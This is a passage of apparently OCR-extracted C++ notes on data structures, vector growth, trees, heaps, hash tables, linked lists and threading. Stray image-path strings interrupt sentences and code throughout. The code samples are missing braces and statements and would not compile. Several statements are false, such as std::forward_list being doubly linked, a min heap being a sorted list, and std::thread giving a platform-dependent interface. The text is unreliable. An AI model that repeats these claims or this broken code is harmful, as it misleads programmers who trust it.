  7. Think and work inparallel: Allow users to think and work in parallel by using multiple views, perspectives, and techniques.
  8. Provide support for recognition: Allow users to recognize objects and concepts instead of having to remember them.
  9. Use natural mapping: Use natural mappings so that users can easily understand and learn how to use the system.
  10. Use recognition rather than recall: Allow users to recognize objects and concepts instead of having to remember them.
  11. Provide help and documentation: Provide online help and documentation so users can get the information they need to use the system.

Data structures

It’s important to know the common data structures and their characteristics.

  1. Arrays
  2. Linked Lists
  3. Stacks
  4. Queues
  5. Trees
  6. Heaps
  7. Graphs
  8. Hash Tables
  9. Triesstd::vector is the go-to container, so let’s give it some special attention. It has contiguous storage – therefore cache friendly – and uses the RAII paradigm: the data are created on the heap and the allocation and deallocation (new/delete) are handled for you. Interestingly, std::string exhibits many of thesame characteristics, but it’s not quite containery enough toqualify.

How does my vector grow?

Estimate how many times the fax destructor is called below.

#include <iostream>
#include <vector>

auto x = 0uz;

int main() {
    struct fax {
        // Default constructor and destructor
        fax() {std::cout << x << " ctor\n"; }
        ~fax() { std::cout << "\t" << x << " dtor\n"; }

        // Copy constructors
        fax(const fax&) { std::cout << x << " copy ctor\n"; };
        fax(fax&&) { std::cout << x << " move ctor\n"; };

        //Assignment constructors
        fax& operator=(const fax&) {
            std::cout << x << " copy assignment ctor\n";
            return *this;
        fax& operator=(fax&&) {
            std::cout << x << " move assignment ctor\n";
            return *this;

        const size_t id = x++;

    std::vector<fax> y;

    // Reduce copies by allocating up front
    // y.reserve(3);

    for (size_t i = 0; i < 3; ++i) {
    std::cout << "-- capacity " << y.capacity() << " --\n";

    // fax f1 = fax{};
    // fax f2 = std::move(fax{});

See the program output (below), note how the capacity is growing exponentially (doubling each time).1 ctor
2 move ctor
    2 dtor
-- capacity 1 --
3 ctor
4 move ctor
5 copy ctor
    5 dtor
    5 dtor
-- capacity 2 --
6 ctor
7 move ctor8 copy ctor
9 copy ctor
    9 dtor
    9 dtor
    9 dtor
-- capacity 4 --
    9 dtor
    9 dtor
    9 dtor

For each push we call the default constructor to create a temporary object and then call the copy constructor to populate the new element with its data… so far so good. But crucially, when the vector is resized we must also copy all the existing elements into the new container. Not an issue for this simple case, but if the class is expensive to copy there could be trouble ahead. Additionally, if there’s a bug in the copy constructor, we may be corrupting existing valid data simply by copying it around.

Binary search trees

std::set and std::map are implemented using a red-blacktree, a type of balanced binary search tree. C++23 introduces std::flat_map which is implemented using contiguous storage to make it more cache-friendly.

Binary search trees (BST) are a type of data structure that operates on a tree-like structure and has the following properties:

  1. Each node in the tree contains a single data element
  2. The tree is sorted in such a way that for each node, all elements in its left subtree are less than or equal to the node, and all elements in its right subtree are greater than the node.
  3. Each subtree is itself a binary search tree.

Binary search trees are used to store and quickly retrieve data. They are commonly used for dictionary and symbol table implementations.

Self-balancing binary search treesA balanced tree is one of height O(log n), where n is the number of nodes in the tree. It is a sorted hierarchy of data where the left most node is the smallest, and the right most node is the largest.

Below each node of a binary search tree is a mini tree. The top of the tree is the middle element.

e|            /e
d|           d
c|          / \c
b|         b
a|        / \ /a
9|-----  /   98|      /     \8
7|     7
6|      \     /6
5|-----  \   5
4|        \ / \4
3|         3
2|          \ /2
1|           1
0|            \0

Hash tables

Hash tables have an amortized complexity of O(1) unless there are collisions. Worst case, if everything is in the same bin, then it is O(n). Additionally, if the proportion of slots – known as “load factor” or “fill ratio” – exceeds a threshold, then the hash table must be resized/rebuilt.std::unordered_set and std::unordered_map are implemented using hash tables.


A heap is a useful data structure when it is necessary to repeatedly remove the object with the highest (or lowest) priority.

Support of random access iterators is required to keep a heap structure internally at all times. A min heap is also a sorted list.


Project down, the top of the tree is a smallest element.

   2       3
 4   5   6   7
8 9 a b c d e f
      / \
     /   \
    /     \
   2       3
  / \     / \
 4   5   6   7/ \ / \ / \ / \
8 9 a b c d e f

Comparison of heaps and binary search trees

A heap is a data structure that is typically used to implement a priority queue, where elements are organized in a tree-like structure with the highest priority elements at the top. A binary search tree is a datastructure used to store sorted data in which each node contains a value and two pointers, one pointing to a node with a value less than the current node and one pointing to a node with a value greater than the current node. Heaps are typically unbalanced, while binary search trees must be balanced in order to maintain a logarithmic search time.

Singly linked lists

Adding/removing at the beginning is O(1), but adding at the end means search the whole list, therefore O(n). Searching is also O(n).

std::forward_list is a singly linked list.

Doubly linked lists

Like a singly linked list but we can iterate both ways. It stores a pointer to both the beginning and end, therefore operations on the end are also O(1).std::forward_list is a doubly linked list.

C++ Standard Library container complexities

Container Insert Delete Access Search
vector O(1)* O(n) O(1) O(n)
deque O(1) O(n) O(1) O(n)
list O(1) O(1) O(n) O(n)
set O(log n) O(log n) O(log n) O(log n)
map O(log n) O(log n) O(log n) O(log n)
unordered_set O(1) O(1) O(1) O(1)
unordered_map O(1) O(1) O(1) O(1)

*O(1) amortized constant time when inserting at the end

However, the conventional CSwisdom for when to use a linked list over contiguous storage hasn’t applied for years: you have to measure. E.g., if a container fits in the cache, a vector might outperform everything.

Creating threads in C++

This is all a lot easier since std::thread was introduced in C++11. Now we have a platform dependent interface.

See the C++ concurrency support library examples.

However, remember there is an overhead in creating a thread: if the operation you’re repeating is quick then could it actually take longer to parallelise it? You need to profile: how long does it take to just create a thread?

Ways to create a thread


Think of it like pushing a calculation into the background. std::async executes a function asynchronously and returns a std::future that will eventually hold the result of that function call. Quite a nice way to reference the result of calculation executed in another thread.


You need to call join() for every thread created with std::thread. Typically it’s done by storing your threads as a vector and joining each of them in a loop.


Like a regular thread but you don’t have to join it in the caller: it actually joins for you in the destructor. Quite nice to not have to remember to join, but joining all your threads can be aconvenient synchronisation point.

Execution policies

Many of the Standard Library algorithms can take an execution policy, which is quite an exciting way to parallelise existing code. But remember it offers no protection of shared data: it’s still just a bunch of threads.

C++ algorithms that can take an execution policy

Some of these have an _if version that takes a additional predicate: e.g., std::replace and std::replace_if.

  1. std::sort
  2. std::copy
  3. std::transform
  4. std::accumulate
  5. std::for_each
  6. std::reduce
  7. std::inclusive_scan
  8. std::exclusive_scan
  9. std::transform_reduce
  10. std::remove
  11. std::count
  12. std::max_element
  13. std::min_element
  14. std::find
  15. std::generateAcquiring resources


A standard way to protect access to something, but there are multiple ways to unlock it.

Acquiring multiple resources

Here be dragons! In the shape of deadlocks. There are several strategies to improve your chances of not become stuck, see the deadlock chapter for more.

You can use std::scoped_lock with multiple resources or single, but I think they express intention better, by virtue of having “scope” in the name.

Standard library threading types

See the Standard Library concurrency support library.

Let’s ask OpenAI to write a producer-consumer solution in C++

#include <iostream>#include <thread>
#include <mutex>
#include <condition_variable>
#include <queue>

std::mutex m;
std::condition_variable cv;
std::queue<int> q;

const int BufferSize = 10;

void producer()
  for (int i = 0; i < 50; i++) {
    std::unique_lock<std::mutex>lk(m);
    cv.wait(lk, []{return q.size() < BufferSize;});
    std::cout << \"Produced \" << i << std::endl;

void consumer()
  for (int i = 0; i < 50; i++) {
    std::unique_lock<std::mutex> lk(m);
    cv.wait(lk, []{return !q.empty();});
    int item = q.front();
    std::cout << \"Consumed \" << item << std::endl;

